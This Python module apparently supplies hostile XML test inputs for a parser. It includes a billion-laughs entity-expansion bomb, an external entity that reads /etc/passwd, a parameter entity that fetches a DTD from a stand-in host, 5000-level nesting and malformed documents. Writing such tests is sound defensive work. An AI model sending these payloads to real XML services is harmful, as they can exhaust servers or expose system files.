"""XML that is meant to harm: entities that grow, entities that name files, depth, and what is cut off."""

from __future__ import annotations

_GROWING = "".join(f'<!ENTITY l{index} "{f"&l{index - 1};" * 30}">' for index in range(1, 10))
HOSTILE = {
    "entities that grow": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{_GROWING}]><{{root}}>&l9;</{{root}}>',
    "a file by an entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><{root}>&x;</{root}>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://a.example/x"> %x;]><{root}>a</{root}>',
    "an unknown entity": "<{root}>&nbsp;</{root}>",
    "depth": "<{root}>" + "<a>" * 5000 + "</a>" * 5000 + "</{root}>",
    "cut off": "<{root}><document>",
    "not balanced": "<{root}><a></b></{root}>",
    "nothing": "",
    "no XML": "not < xml",
    "two roots": "<{root}></{root}><{root}></{root}>",
}
"""By what it does; `{root}` stands for the root's name."""


def hostile_xml(kind: str, root: str) -> str:
    """One of these files, with a root of that name."""
    return HOSTILE[kind].replace("{root}", root).replace("{{root}}", root)
